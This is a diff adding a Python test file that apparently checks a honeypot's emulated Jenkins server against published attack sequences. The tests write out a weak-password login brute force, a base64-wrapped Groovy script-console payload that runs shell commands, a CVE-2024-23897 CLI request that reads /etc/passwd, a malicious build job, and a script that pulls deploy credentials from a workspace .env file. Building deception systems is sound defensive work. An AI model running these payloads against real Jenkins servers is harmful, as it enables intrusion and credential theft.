@@ -1,0 +1,135 @@
+"""Jenkins: conversations with it, and the sequences of public tools up to what they came for."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import html
+import re
+import struct
+from urllib.parse import urlencode
+
+import pytest
+
+from mirage.gateway.http.sites.jenkins.site import WEAK
+from mirage.world import accounts
+from mirage.world.host import Host
+from tests.unit.gateway.http.sites.conftest import Answer, Machine, begin
+
+
+@pytest.fixture
+async def jenkins(host: Host) -> Machine:
+    return begin(host, "jenkins")
+
+
+def _form(**values: str) -> bytes:
+    return urlencode(values).encode()
+
+
+async def _entered(jenkins: Machine) -> str:
+    """Past the door as auxiliary/scanner/http/jenkins_login goes; the crumb of the session."""
+    door = await jenkins.ask("GET", "/login")
+    action = re.search(r'action="(j_([a-z0-9_]+))"', door.body.decode())
+    assert (door.status, action is not None, door.field("X-Jenkins")) == (200, True, "2.426.2")
+    for word in WEAK:
+        answer = await jenkins.ask("POST", "/j_spring_security_check", _form(j_username="admin", j_password=word, Submit="log in"))
+        if "loginError" not in answer.field("Location"):
+            found = re.search(r'data-crumb-value="([a-z0-9]*)"', (await jenkins.ask("GET", "/script")).body.decode())
+            assert found is not None
+            return found[1]
+    raise AssertionError
+
+
+def _results(answer: Answer) -> list[str]:
+    return [html.unescape(text) for text in re.findall(r"<pre>(.*?)</pre>", answer.body.decode(), re.DOTALL)]
+
+
+async def test_metasploit_s_jenkins_script_console_runs_its_command(jenkins: Machine) -> None:
+    """exploit/multi/http/jenkins_script_console: the door, the crumb, and Java that takes the command out of base64."""
+    assert (await jenkins.ask("GET", "/script")).status == 403
+    crumb = await _entered(jenkins)
+    command = base64.b64encode(b"echo here > /tmp/ran-$(whoami)").decode()
+    script = (
+        f'String abc = "{command}";\nbyte[] def_;\ntry {{\ndef_ = Base64.getDecoder().decode(abc);\n'
+        "} catch(groovy.lang.MissingPropertyException e) {\n"
+        'Object ghi = Eval.me("new sun.misc.BASE64Decoder()");\ndef_ = ghi.decodeBuffer(abc);\n}\n'
+        'String[] jkl = new String[3];\njkl[0] = "/bin/sh";\njkl[1] = "-c";\njkl[2] = new String(def_, "UTF-8");\nRuntime.getRuntime().exec(jkl);\n'
+    )
+    body = urlencode({"script": script, "Submit": "Run", "Jenkins-Crumb": crumb}).encode()
+    assert (await jenkins.ask("POST", "/script", body)).status == 200
+    assert jenkins.read("/tmp/ran-jenkins") == b"here\n"
+
+
+async def test_metasploit_s_jenkins_command_reads_what_the_command_says(jenkins: Machine) -> None:
+    """auxiliary/scanner/http/jenkins_command: the result stands in the second <pre>, behind `out> `."""
+    crumb = await _entered(jenkins)
+    script = (
+        "def sout = new StringBuffer(), serr = new StringBuffer()\r\ndef proc = 'whoami'.execute()\r\n"
+        'proc.consumeProcessOutput(sout, serr)\r\nproc.waitForOrKill(1000)\r\nprintln "out> $sout err> $serr"\r\n'
+    )
+    answer = await jenkins.ask("POST", "/script", urlencode({"script": script, "Jenkins-Crumb": crumb, "Submit": "Run"}).encode())
+    assert _results(answer)[1] == "out> jenkins\n err> \n"
+
+
+async def test_the_command_line_reads_files_to_strangers(jenkins: Machine) -> None:
+    """CVE-2024-23897 as its published tools do it: two requests of one session, `connect-node @FILE`."""
+    words = [b"connect-node", b"@/etc/passwd"]
+    frames = b"".join(struct.pack(">i", len(word) + 2) + b"\0" + len(word).to_bytes(2, "big") + word for word in words)
+    frames += struct.pack(">i", 7) + b"\x02" + b"\0\x05UTF-8" + struct.pack(">i", 0) + b"\x03"
+    fields = {"Session": "3a2b", "Content-Type": "application/octet-stream"}
+    down = asyncio.ensure_future(jenkins.ask("POST", "/cli?remoting=false", b"", {**fields, "Side": "download"}))
+    await asyncio.sleep(0)
+    await jenkins.ask("POST", "/cli?remoting=false", frames, {**fields, "Side": "upload"})
+    said = (await down).body.decode("latin-1")
+    assert 'No such agent "root:x:0:0:root:/root:/bin/bash" exists.' in said
+
+
+SCRIPTS = [
+    ("println 'id'.execute().text", "uid="),
+    ('println(["/bin/sh", "-c", "echo a b"].execute().text)', "a b\n"),
+    ("def cmd = 'uname -s'\nprintln cmd.execute().text", "Linux\n"),
+    ("println new File('/etc/passwd').text", "root:x:0:0"),
+    ("println(Jenkins.instance.version)", "2.426.2"),
+    ("1 + 2", "Result: 3\n"),
+    ("println nothing", "groovy.lang.MissingPropertyException: No such property: nothing for class: Script1"),
+    ("def list = ['a', 'b']\nlist.each { println \"<$it>\" }", "<a>\n<b>\n"),
+    ("println 'nosuch'.execute().text", 'java.io.IOException: Cannot run program "nosuch": error=2, No such file or directory'),
+]
+
+
+@pytest.mark.parametrize(("script", "begin_of_output"), SCRIPTS)
+async def test_scripts_that_people_type(jenkins: Machine, script: str, begin_of_output: str) -> None:
+    crumb = await _entered(jenkins)
+    answer = await jenkins.ask("POST", "/scriptText", urlencode({"script": script}).encode(), {"Jenkins-Crumb": crumb})
+    assert answer.body.decode().startswith(begin_of_output), answer.body
+
+
+async def test_a_job_with_a_shell_step_is_made_and_built(jenkins: Machine) -> None:
+    """What tools do that find the console closed: createItem, build, consoleText."""
+    crumb = await _entered(jenkins)
+    config = b"<project><builders><hudson.tasks.Shell><command>id -un &amp;&amp; touch made</command></hudson.tasks.Shell></builders></project>"
+    fields = {"Jenkins-Crumb": crumb, "Content-Type": "application/xml"}
+    assert (await jenkins.ask("POST", "/createItem?name=evil", config, fields)).status == 200
+    assert (await jenkins.ask("POST", "/job/evil/build", b"", fields)).status == 201
+    log = (await jenkins.ask("GET", "/job/evil/lastBuild/consoleText")).body.decode()
+    assert log.endswith("+ id -un\n+ touch made\njenkins\nFinished: SUCCESS\n")
+    assert jenkins.read("/var/lib/jenkins/workspace/evil/made") == b""
+
+
+async def test_without_a_crumb_nothing_is_done(jenkins: Machine) -> None:
+    await _entered(jenkins)
+    answer = await jenkins.ask("POST", "/script", _form(script="println 1"))
+    assert (answer.status, b"No valid crumb was included in the request" in answer.body) == (403, True)
+
+
+async def test_a_stranger_is_sent_to_the_door(jenkins: Machine) -> None:
+    answer = await jenkins.ask("GET", "/systemInfo")
+    assert (answer.status, answer.field("X-Jenkins"), b"url=/login?from=%2FsystemInfo" in answer.body) == (403, "2.426.2", True)
+
+
+async def test_the_credential_opens_ssh(jenkins: Machine) -> None:
+    crumb = await _entered(jenkins)
+    script = "println new File('/var/lib/jenkins/workspace/' + Jenkins.instance.items[0] + '/.env').text"
+    answer = await jenkins.ask("POST", "/scriptText", urlencode({"script": script}).encode(), {"Jenkins-Crumb": crumb})
+    user, password = re.findall(r"DEPLOY_(?:USER|PASSWORD)=(\S+)", answer.body.decode())
+    assert accounts.verify(jenkins.host.view(jenkins.layer), user, password.encode()) is True
